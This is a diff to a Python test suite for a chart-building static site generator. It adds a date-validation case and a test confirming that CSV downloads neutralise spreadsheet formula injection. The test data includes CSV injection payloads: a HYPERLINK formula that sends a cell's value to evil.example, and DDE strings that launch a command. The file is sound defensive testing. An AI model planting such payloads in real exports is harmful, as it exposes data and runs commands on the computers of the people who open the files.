@@ -161,6 +161,7 @@ def test_a_state_chosen_in_the_address_is_shown(site, static_server, page, tmp_p
         ("?nope=%22c%22", "unknown param 'nope'"),
         ("?zoom=%22big%22", "param 'zoom' takes a number"),
         ("?day=%222024-13%22", "param 'day' takes a date"),
+        ("?day=%222023-02-30%22", "got \"2023-02-30\", which is not a day of the calendar"),
         ("?focus=%22c%22&focus=%22b%22", "param 'focus' is set twice"),
         ("?focus=%5B1%5D", "param 'focus' takes \"text\""),
     ],
@@ -331,6 +332,51 @@ def test_csv_quotes_what_needs_quoting():
         ['Vilnius, "the capital"', "two\nlines", "1.5", ""],
         ["Žemaitija", "", "", "true"],
     ]
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "\t=1+1"]
+PLAIN = ["-1.5", "+3", "a=b", "plain"]  # numbers and text a spreadsheet shows as they are
+
+
+def strings_in(node):
+    if isinstance(node, str):
+        yield node
+    elif isinstance(node, dict):
+        for value in node.values():
+            yield from strings_in(value)
+    elif isinstance(node, list):
+        for value in node:
+            yield from strings_in(value)
+
+
+def test_csv_downloads_never_start_a_cell_with_a_formula_and_the_charts_keep_the_data(tmp_path):
+    root = tmp_path / "basic"
+    shutil.copytree(FIXTURES / "basic", root, ignore=shutil.ignore_patterns(".scrolly-cache", "dist"))
+    ids = FORMULAS + PLAIN
+    with (root / "charts" / "data" / "dots.csv").open("w", encoding="utf-8", newline="") as file:
+        csv.writer(file).writerows([["id", "x", "y"], *[[text, 1 + i % 3, 1 + i % 2] for i, text in enumerate(ids)]])
+    (root / "charts" / "inline.py").write_text(  # no table(): the CSV comes from the spec's inline data
+        "import altair as alt\n"
+        f"ROWS = [{{'@column': text, 'n': i}} for i, text in enumerate({ids!r})]\n"
+        "def chart():\n"
+        "    return alt.Chart(alt.Data(values=ROWS)).mark_point().encode(x='n:Q', tooltip='@column:N')"
+        ".properties(title='Inline', description='Inline rows.')\n", encoding="utf-8")
+
+    result = run_build("--site", str(root))
+    assert result.returncode == 0, result.stderr
+
+    dist = root / "dist"
+    neutral = ["'" + text for text in FORMULAS] + PLAIN
+    dots = list(csv.DictReader(io.StringIO((dist / "charts" / "dots.csv").read_text(encoding="utf-8"), newline="")))
+    assert [row["id"] for row in dots] == neutral
+    inline = list(csv.reader(io.StringIO((dist / "charts" / "inline.csv").read_text(encoding="utf-8"), newline="")))
+    assert inline[0] == ["'@column", "n"] and [row[0] for row in inline[1:]] == neutral
+    for name in ("dots", "inline"):  # what the charts draw is the data as given
+        texts = set(strings_in(json.loads((dist / "charts" / f"{name}.vl.json").read_text(encoding="utf-8"))))
+        assert set(ids) <= texts and not texts & set(neutral[: len(FORMULAS)])
+    page = (dist / "index.html").read_text(encoding="utf-8")
+    cells = [html.unescape(cell) for cell in re.findall(r"<td>(.*?)</td>", page, re.S)]
+    assert ids[0] in cells and ids[3] in cells and not any(cell.startswith("'") for cell in cells)
 
 
 def fake_chart(vega_lite: dict, table: list | None = None) -> Chart:
